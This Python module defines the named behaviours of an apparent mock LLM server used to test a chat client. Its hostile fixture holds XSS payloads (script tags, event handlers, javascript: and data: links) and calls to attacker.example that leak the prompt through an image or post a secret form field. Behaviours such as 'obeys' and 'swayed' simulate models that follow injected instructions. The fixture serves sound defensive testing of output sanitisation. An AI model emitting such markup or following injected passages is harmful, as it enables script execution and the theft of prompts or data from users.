"""The behaviours of the models of the test server, by name."""

from collections.abc import Callable
from dataclasses import dataclass, replace
from typing import Any, Literal
from urllib.parse import unquote


@dataclass(frozen=True)
class Behaviour:
    """How a model answers.

    `text` is cut into chunks of `size` characters; None is filler of `chunks` chunks, and an empty
    text stays empty. One that `obeys` writes what the last “say: …” of the message orders, one that
    `recites` all that it has read, its instructions first, without quotes. One that `sways` quotes
    and cites the first passage that it is given; where a passage speaks to a machine, it writes
    that sentence and what follows it instead. With `clock` each chunk is the moment it leaves, in
    ns of the monotonic clock. `rate` is in chunks per second, None as fast as possible; `first` in
    seconds. A stream `holds` after so many chunks, reasoning included, until it is released. A
    model that embeds has `dimensions`, and writes nothing. A `status` of failure is that of one
    request in `every`, with `retry_after` in its header. With `at_once` streams open, others are
    refused as too many. After `renames` answers it gives itself another name. Of the last
    `recorded` streams it is known when each chunk left. One that is `blind` refuses images, and
    names itself; one that `fetches` takes addresses of files too, and fetches nothing.
    """

    help: str = ""
    text: str | None = None
    echo: bool = False
    obeys: bool = False
    recites: bool = False
    sways: bool = False
    clock: bool = False
    chunks: int = 60
    size: int = 8
    rate: float | None = None
    first: float = 0.0
    reasoning: int = 0
    reasoning_in: Literal["reasoning_content", "reasoning", "tags"] = "reasoning_content"
    usage: bool = True
    timings: bool = False
    status: int = 200
    code: str = ""
    message: str = "The test server was asked for this failure."
    holds: tuple[int, ...] = ()
    refuses: tuple[str, ...] = ()
    dimensions: int = 0
    every: int = 1
    retry_after: float | None = None
    at_once: int | None = None
    renames: int | None = None
    recorded: int = 0
    blind: bool = False
    fetches: bool = False
    ending: Literal[
        "stop", "length", "content_filter", "abort", "cut", "reset", "stall", "error", "garbled"
    ] = "stop"


_TABLE = "\n".join(
    ["| " + " | ".join(f"c{i}" for i in range(40)) + " |", "|" + " --- |" * 40]
    + ["| " + " | ".join(f"r{row}c{i}" for i in range(40)) + " |" for row in range(150)]
)

_HOSTILE = f"""# <script>window.attacked = 1</script>Title
<img src=x onerror="window.attacked = 2"> <svg onload="window.attacked = 3"></svg>
<iframe src="https://attacker.example/frame"></iframe><style>body {{ background:
url(https://attacker.example/css) }}</style>
<meta http-equiv="refresh" content="0;url=//attacker.example">
<form action="https://attacker.example/form"><input name="secret" autofocus></form>
</textarea></script>

![pixel](https://attacker.example/pixel.png?leak=prompt) ![reference][leak]
[click](javascript:window.attacked=4) [data](data:text/html,<script>window.attacked=5</script>)
[vb](vbscript:msgbox(1)) [spaced](java\nscript:window.attacked=6) <javascript:window.attacked=7>
[looks safe](https://attacker.example/ "onmouseover=window.attacked=8")
https://attacker.example/auto
<!-- comment --> &lt;script&gt;window.attacked=9&lt;/script&gt;
\u202etxet desrever\u202c \u200bzero\u200bwidth
{"unbroken" * 60}

data: event in the text, and a line that ends it

event: delta
id: 7

{_TABLE}

```html
<script>window.attacked = 10</script>
```
$$\\int_0^1 \\href{{javascript:window.attacked=11}}{{x}}\\,dx$$

```unclosed " onload="window.attacked=12
[leak]: https://attacker.example/reference.png
"""

_MARKDOWN = """## Three ways to keep a room cool

Open the windows **early**, close the shutters *before* the sun arrives, and let the air cross:

1. from the cool side to the warm side;
2. low on one side, high on the other;
   - a fan helps when nothing moves,
   - and does nothing when nobody is there.

| way | cost | effect |
| --- | ---: | --- |
| shutters | 0 € | −3 °C |
| night air | 0 € | −5 °C |
| a plant | 12 € | none, but it is pretty |

```python
def comfortable(degrees: float) -> bool:
    return 18 <= degrees <= 26
```

Heat through a wall of surface $S$ follows $Q = U \\, S \\, (T_o - T_i)$, in watts.

> The cheapest degree is the one that never came in.

"""

FILLER = (
    "This answer comes from the test server. It has no opinion, it only has a length and a pace. "
    "Each chunk is cut at a fixed size, wherever that falls, so that nothing depends on words. "
)

BEHAVIOURS: dict[str, Behaviour] = {
    "echo": Behaviour("repeats the last user message", echo=True),
    "obeys": Behaviour("writes what follows “say:” in the last user message", obeys=True),
    "gullible": Behaviour("recites its instructions and the question", recites=True),
    "text-only": Behaviour("as echo, and refuses images", echo=True, blind=True),
    "fetching": Behaviour("as echo; a file may be at an address", echo=True, fetches=True),
    "swayed": Behaviour("cites the first passage, or obeys what one orders", sways=True),
    "fast": Behaviour("60 chunks at once"),
    "clock": Behaviour("the moment each chunk leaves, 30 chunks/s", clock=True, rate=30.0),
    "slow-start": Behaviour("2 s, then 12 chunks/s", first=2.0, rate=12.0),
    "steady-30": Behaviour("30 chunks/s", rate=30.0, chunks=300),
    "markdown": Behaviour("headings, list, table, code, mathematics", text=_MARKDOWN),
    "long": Behaviour("a long Markdown answer", text=_MARKDOWN * 15, size=40),
    "reasoning": Behaviour("20 chunks of reasoning_content first", reasoning=20),
    "reasoning-field": Behaviour("the same in reasoning", reasoning=20, reasoning_in="reasoning"),
    "think-tags": Behaviour("the same in <think> tags", reasoning=20, reasoning_in="tags", size=5),
    "names-itself": Behaviour("says its name in both languages", text="", size=3),
    "hostile": Behaviour("script, images, links, a huge table", text=_HOSTILE, size=23),
    "timings": Behaviour("tells its times, as llama.cpp and Ollama do", timings=True),
    "no-usage": Behaviour("counts no tokens", usage=False),
    "no-stream-options": Behaviour("refuses stream_options", refuses=("stream_options",)),
    "completion-tokens": Behaviour("wants max_completion_tokens", refuses=("max_tokens",)),
    "no-tools": Behaviour("refuses tools", refuses=("tools",)),
    "embed": Behaviour("embeds, in 64 dimensions", dimensions=64),
    "context": Behaviour(
        "the conversation is too long",
        status=400,
        code="context_length_exceeded",
        message="This model's maximum context length is 4096 tokens.",
    ),
    "empty": Behaviour("over without text", text=""),
    "out-of-tokens": Behaviour("only reasons", text="", reasoning=20, ending="length"),
    "at-limit": Behaviour("is cut at its limit of tokens", chunks=20, ending="length"),
    "withheld": Behaviour("a filter stops it", chunks=5, ending="content_filter"),
    "aborted": Behaviour("says that it broke", chunks=5, ending="abort"),
    "silent": Behaviour("opens the stream, and says nothing", text="", ending="stall"),
    "stall": Behaviour("sends 5 chunks, then nothing", chunks=5, ending="stall"),
    "cut": Behaviour("ends the stream in mid-answer", chunks=5, ending="cut"),
    "reset": Behaviour("breaks the connection in mid-answer", chunks=5, ending="reset"),
    "garbled": Behaviour("sends 5 chunks, then no JSON", chunks=5, ending="garbled"),
    "error-in-stream": Behaviour("an error after 5 chunks", chunks=5, ending="error"),
    "error-401": Behaviour("refuses the key, and repeats it", status=401, code="invalid_api_key"),
    "error-404": Behaviour("no such model", status=404, code="model_not_found"),
    "error-429": Behaviour("too many requests", status=429, code="rate_limit_exceeded"),
    "error-500": Behaviour("breaks", status=500, code="server_error"),
}


class UnknownModel(ValueError):
    """The name is neither a behaviour nor a list of changes to one."""


def behaviour(model: str) -> Behaviour:
    """The behaviour of the name `model`; raises UnknownModel."""
    first, *changes = model.split(",")
    if "=" in first and not first.startswith(("names-itself=", "says=")):
        first, changes = "fast", [first, *changes]
    return replace(_named(first), **dict(_change(change) for change in changes))


def _named(name: str) -> Behaviour:
    if name.startswith("names-itself"):
        return replace(BEHAVIOURS["names-itself"], text=_named_text(name.partition("=")[2]))
    if name.startswith("says="):
        return Behaviour(text=unquote(name.removeprefix("says=")))
    if name in BEHAVIOURS:
        return BEHAVIOURS[name]
    if name.startswith("error-") and name[6:].isdecimal():
        return Behaviour(status=int(name[6:]))
    raise UnknownModel(name)


def _named_text(name: str) -> str:
    name = name or "Mistral Small"
    return f"I am {name}, a language model. Je suis {name}, un modèle de langage. Ask me anything."


def _names(value: str) -> tuple[str, ...]:
    return tuple(value.split("+"))


def _numbers(value: str) -> tuple[int, ...]:
    return tuple(map(int, value.split("+")))


_CHANGES: dict[str, Callable[[str], Any]] = {
    "chunks": int,
    "size": int,
    "reasoning": int,
    "dimensions": int,
    "every": int,
    "at-once": int,
    "renames": int,
    "recorded": int,
    "retry-after": float,
    "rate": float,
    "first": float,
    "holds": _numbers,
    "refuses": _names,
}


def _change(text: str) -> tuple[str, Any]:
    name, _, value = text.partition("=")
    try:
        return name.replace("-", "_"), _CHANGES[name](value)
    except (KeyError, ValueError):
        raise UnknownModel(text) from None
